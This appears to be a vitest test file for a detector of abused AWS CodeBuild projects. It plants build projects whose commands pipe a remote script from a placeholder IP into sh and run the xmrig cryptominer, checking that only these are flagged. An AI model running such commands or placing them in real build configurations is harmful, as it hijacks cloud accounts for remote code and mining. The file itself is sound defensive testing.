import { expect } from 'vitest';
import { type Call_, testHunter } from './stand.ts';

const serviceRole = 'arn:aws:iam::111122223333:role/builds';
const project = async (as: Call_, name: string, command: string) => {
  await as('codebuild', 'CreateProject', {
    name,
    serviceRole,
    source: { type: 'NO_SOURCE', buildspec: `version: 0.2\nphases:\n  build:\n    commands:\n      - ${command}\n` },
    artifacts: { type: 'NO_ARTIFACTS' },
    environment: { type: 'LINUX_CONTAINER', image: 'aws/codebuild/standard:7.0', computeType: 'BUILD_GENERAL1_2XLARGE' },
  });
  return name;
};
testHunter({
  type: 'AWS::CodeBuild::Project',
  plant: async (as) => [
    await project(as, 'nightly-1', 'wget -qO- http://203.0.113.9/m.sh | sh'),
    await project(as, 'nightly-2', 'wget -qO- http://203.0.113.9/m.sh | sh'),
    await project(as, 'nightly-3', './xmrig --donate-level 1'),
  ],
  innocent: async (as) => [await project(as, 'site', 'npm ci')],
  looks: { roles: [serviceRole], reasons: expect.arrayContaining([expect.objectContaining({ code: 'runs-code' })]) },
});
